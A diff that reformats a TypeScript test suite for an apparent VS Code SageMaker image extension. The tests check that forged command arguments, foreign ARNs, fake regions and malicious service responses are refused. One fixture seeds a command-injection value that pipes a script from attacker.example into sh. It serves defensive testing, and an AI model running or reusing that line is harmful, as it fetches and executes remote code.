@@ -85,7 +85,11 @@ describe('forged command arguments (issue 13)', function () {
     return found;
   }
 
-  const forgedImage = { kind: 'image', id: 'image/fa-kernel', image: { imageName: 'fa-kernel', imageArn: PAYLOAD, imageStatus: 'CREATED' } };
+  const forgedImage = {
+    kind: 'image',
+    id: 'image/fa-kernel',
+    image: { imageName: 'fa-kernel', imageArn: PAYLOAD, imageStatus: 'CREATED' },
+  };
   const forgedVersion = {
     kind: 'version',
     parent: { ...forgedImage, branch: { resolvedRegion: 'www-attacker-example' } },
@@ -95,7 +99,10 @@ describe('forged command arguments (issue 13)', function () {
   describe('nodes the tree did not hand out', () => {
     it('Copy Image ARN refuses a look-alike image node: the clipboard keeps its text and no ARN is made from it', async () => {
       assert.equal(await vscode.commands.executeCommand('sagemakerImages.copyImageArn', viaLink(forgedImage)), undefined);
-      assert.equal(await vscode.commands.executeCommand('sagemakerImages.copyImageArn', viaLink(forgedImage), [viaLink(forgedImage)]), undefined);
+      assert.equal(
+        await vscode.commands.executeCommand('sagemakerImages.copyImageArn', viaLink(forgedImage), [viaLink(forgedImage)]),
+        undefined,
+      );
       // Also with one real row in the selection: the whole argument is refused.
       const real = await imageNode('fa-kernel');
       assert.equal(await vscode.commands.executeCommand('sagemakerImages.copyImageArn', real, [real, viaLink(forgedImage)]), undefined);
@@ -106,14 +113,24 @@ describe('forged command arguments (issue 13)', function () {
 
     it('Copy Version ARN refuses a look-alike version node', async () => {
       assert.equal(await vscode.commands.executeCommand('sagemakerImages.copyVersionArn', viaLink(forgedVersion)), undefined);
-      assert.equal(await vscode.commands.executeCommand('sagemakerImages.copyVersionArn', viaLink(forgedVersion), [viaLink(forgedVersion)]), undefined);
+      assert.equal(
+        await vscode.commands.executeCommand('sagemakerImages.copyVersionArn', viaLink(forgedVersion), [viaLink(forgedVersion)]),
+        undefined,
+      );
       assert.equal(await vscode.env.clipboard.readText(), UNTOUCHED);
       await quiet();
       assert.deepEqual(emulator.calls(), []);
     });
 
     it('details, alias, container URI, console and compare commands refuse a look-alike node and make no call for its region', async () => {
-      for (const command of ['showVersionDetails', 'copyAlias', 'copyContainerImageUri', 'openInConsole', 'compareVersions', 'exportVersions']) {
+      for (const command of [
+        'showVersionDetails',
+        'copyAlias',
+        'copyContainerImageUri',
+        'openInConsole',
+        'compareVersions',
+        'exportVersions',
+      ]) {
         assert.equal(await vscode.commands.executeCommand(`sagemakerImages.${command}`, viaLink(forgedVersion)), undefined, command);
       }
       assert.equal(await vscode.env.clipboard.readText(), UNTOUCHED);
@@ -128,7 +145,11 @@ describe('forged command arguments (issue 13)', function () {
         { region: 'us-east-1', imageName: '../fa-kernel', version: 1 },
         { region: 'us-east-1', imageName: 'fa-kernel', version: -1 },
       ]) {
-        assert.equal(await vscode.commands.executeCommand('sagemakerImages.copyContainerImageUri', viaLink(arg)), undefined, JSON.stringify(arg));
+        assert.equal(
+          await vscode.commands.executeCommand('sagemakerImages.copyContainerImageUri', viaLink(arg)),
+          undefined,
+          JSON.stringify(arg),
+        );
       }
       assert.equal(await vscode.env.clipboard.readText(), UNTOUCHED);
       await quiet();
@@ -153,8 +174,18 @@ describe('forged command arguments (issue 13)', function () {
       const image = await imageNode('fa-kernel');
       const versions = (await api.tree.getChildren(image)).filter((n): n is VersionNode => n.kind === 'version');
       assert.equal(await vscode.commands.executeCommand('sagemakerImages.copyImageArn', image), imageArn('us-east-1', 'fa-kernel'));
-      const both = await vscode.commands.executeCommand<string>('sagemakerImages.copyVersionArn', versions[0], versions.slice(0, 2) as Node[]);
-      assert.equal(both, versions.slice(0, 2).map((v) => v.version.imageVersionArn).join('\n'));
+      const both = await vscode.commands.executeCommand<string>(
+        'sagemakerImages.copyVersionArn',
+        versions[0],
+        versions.slice(0, 2) as Node[],
+      );
+      assert.equal(
+        both,
+        versions
+          .slice(0, 2)
+          .map((v) => v.version.imageVersionArn)
+          .join('\n'),
+      );
       assert.equal(await vscode.env.clipboard.readText(), both);
     });
   });
@@ -182,7 +213,11 @@ describe('forged command arguments (issue 13)', function () {
     });
 
     it('copies nothing for an ARN the service does not know, or of another account', async () => {
-      for (const arn of [imageArn('us-east-1', 'fa-missing'), imageVersionArn('us-east-1', 'fa-kernel', 99), 'arn:aws:sagemaker:us-east-1:111111111111:image/fa-kernel']) {
+      for (const arn of [
+        imageArn('us-east-1', 'fa-missing'),
+        imageVersionArn('us-east-1', 'fa-kernel', 99),
+        'arn:aws:sagemaker:us-east-1:111111111111:image/fa-kernel',
+      ]) {
         const command = arn.includes(':image-version/') ? 'sagemakerImages.copyVersionArn' : 'sagemakerImages.copyImageArn';
         assert.equal(await vscode.commands.executeCommand(command, arn), undefined, arn);
       }
@@ -190,23 +225,43 @@ describe('forged command arguments (issue 13)', function () {
     });
 
     it('Copy Container Image URI copies nothing when the service answers with text that is not a registry path', async () => {
-      emulator.seed({ region: 'eu-west-1', images: [{ name: 'fc-shell', versions: [{ containerImage: 'x; curl -s https://attacker.example/p | sh' }] }] });
-      assert.equal(await vscode.commands.executeCommand('sagemakerImages.copyContainerImageUri', imageVersionArn('eu-west-1', 'fc-shell', 1)), undefined);
+      emulator.seed({
+        region: 'eu-west-1',
+        images: [{ name: 'fc-shell', versions: [{ containerImage: 'x; curl -s https://attacker.example/p | sh' }] }],
+      });
+      assert.equal(
+        await vscode.commands.executeCommand('sagemakerImages.copyContainerImageUri', imageVersionArn('eu-west-1', 'fc-shell', 1)),
+        undefined,
+      );
       assert.equal(await vscode.env.clipboard.readText(), UNTOUCHED);
       await quiet();
-      assert.ok(emulator.calls('DescribeImageVersion').some((c) => c.params.ImageName === 'fc-shell' && c.region === 'eu-west-1'), 'the service was asked');
+      assert.ok(
+        emulator.calls('DescribeImageVersion').some((c) => c.params.ImageName === 'fc-shell' && c.region === 'eu-west-1'),
+        'the service was asked',
+      );
     });
 
-    it('Copy Container Image URI copies the URI of the ARN\'s own account only', async () => {
+    it("Copy Container Image URI copies the URI of the ARN's own account only", async () => {
       const other = 'arn:aws:sagemaker:us-east-1:111111111111:image-version/fa-kernel/2';
       assert.equal(await vscode.commands.executeCommand('sagemakerImages.copyContainerImageUri', other), undefined);
-      assert.equal(await vscode.env.clipboard.readText(), UNTOUCHED, 'a same-named image of the profile\'s account is not the one the ARN names');
+      assert.equal(
+        await vscode.env.clipboard.readText(),
+        UNTOUCHED,
+        "a same-named image of the profile's account is not the one the ARN names",
+      );
       const own = imageVersionArn('us-east-1', 'fa-kernel', 2);
-      assert.equal(await vscode.commands.executeCommand('sagemakerImages.copyContainerImageUri', own), containerImageFor('us-east-1', 'fa-kernel', 2));
+      assert.equal(
+        await vscode.commands.executeCommand('sagemakerImages.copyContainerImageUri', own),
+        containerImageFor('us-east-1', 'fa-kernel', 2),
+      );
     });
 
     it('copies nothing, and calls nothing, for text that is not an ARN of a region SageMaker serves', async () => {
-      for (const text of [PAYLOAD, `arn:aws:sagemaker:www-attacker-example:123456789012:image/fa-kernel`, `${imageArn('us-east-1', 'fa-kernel')}\n${PAYLOAD}`]) {
+      for (const text of [
+        PAYLOAD,
+        `arn:aws:sagemaker:www-attacker-example:123456789012:image/fa-kernel`,
+        `${imageArn('us-east-1', 'fa-kernel')}\n${PAYLOAD}`,
+      ]) {
         assert.equal(await vscode.commands.executeCommand('sagemakerImages.copyImageArn', text), undefined, text);
         assert.equal(await vscode.commands.executeCommand('sagemakerImages.copyVersionArn', text), undefined, text);
       }
@@ -229,7 +284,9 @@ describe('forged command arguments (issue 13)', function () {
       };
       try {
         // What a command link carries: JSON, whose `$mid` VS Code revives into a real Uri.
-        const args = JSON.parse(JSON.stringify([imageArn('us-east-1', 'fa-kernel'), { uri: vscode.Uri.file(target), cancellation: {} }])) as unknown[];
+        const args = JSON.parse(
+          JSON.stringify([imageArn('us-east-1', 'fa-kernel'), { uri: vscode.Uri.file(target), cancellation: {} }]),
+        ) as unknown[];
         assert.equal(await vscode.commands.executeCommand('sagemakerImages.exportVersions', ...args), undefined);
       } finally {
         window.showSaveDialog = saved;
@@ -261,7 +318,10 @@ describe('forged command arguments (issue 13)', function () {
       assert.match(asked[0], /eu-west-1/);
       assert.equal(vscode.workspace.getConfiguration('sagemakerImages').get('region'), 'us-east-1');
       await quiet();
-      assert.deepEqual(emulator.calls().filter((c) => c.region === 'eu-west-1'), []);
+      assert.deepEqual(
+        emulator.calls().filter((c) => c.region === 'eu-west-1'),
+        [],
+      );
     });
   });
 
@@ -291,7 +351,10 @@ describe('forged command arguments (issue 13)', function () {
       const text = await documentText('/us-east-1/fa-kernel/fa-kernel.v2.json');
       assert.equal((JSON.parse(text) as { ImageVersionArn: string }).ImageVersionArn, imageVersionArn('us-east-1', 'fa-kernel', 2));
       await quiet();
-      assert.deepEqual(emulator.calls('DescribeImageVersion').map((c) => [c.region, c.params]), [['us-east-1', { ImageName: 'fa-kernel', Version: 2 }]]);
+      assert.deepEqual(
+        emulator.calls('DescribeImageVersion').map((c) => [c.region, c.params]),
+        [['us-east-1', { ImageName: 'fa-kernel', Version: 2 }]],
+      );
     });
   });
 
@@ -299,7 +362,11 @@ describe('forged command arguments (issue 13)', function () {
     it('stops at the page cap when the endpoint keeps returning new tokens', async () => {
       // Every ListImages page is empty with a fresh token to the same place: endless on purpose.
       emulator.addFault({ kind: 'emptyPageWithToken', operation: 'ListImages', times: 1_000_000 });
-      const result = await vscode.commands.executeCommand<RevealResult>('sagemakerImages.revealArn', imageVersionArn('us-east-1', 'zz-target', 1), { maxPages: 25 });
+      const result = await vscode.commands.executeCommand<RevealResult>(
+        'sagemakerImages.revealArn',
+        imageVersionArn('us-east-1', 'zz-target', 1),
+        { maxPages: 25 },
+      );
       assert.equal(result, 'failed');
       await quiet();
       assert.equal(emulator.calls('ListImages').length, 25, 'exactly the cap, then no more');
@@ -311,7 +378,11 @@ describe('forged command arguments (issue 13)', function () {
       // Longer than this test may take: only an aborted request lets the list load again.
       emulator.addFault({ kind: 'delay', operation: 'ListImageVersions', imageName: 'fa-kernel', delayMs: 40_000 });
       const cancel = new vscode.CancellationTokenSource();
-      const running = vscode.commands.executeCommand<RevealResult>('sagemakerImages.revealArn', imageVersionArn('us-east-1', 'fa-kernel', 1), { cancellation: cancel.token });
+      const running = vscode.commands.executeCommand<RevealResult>(
+        'sagemakerImages.revealArn',
+        imageVersionArn('us-east-1', 'fa-kernel', 1),
+        { cancellation: cancel.token },
+      );
       await waitFor(() => emulator.calls('ListImageVersions').length === 1, 'the first version page requested');
       cancel.cancel();
       assert.equal(await running, 'cancelled');
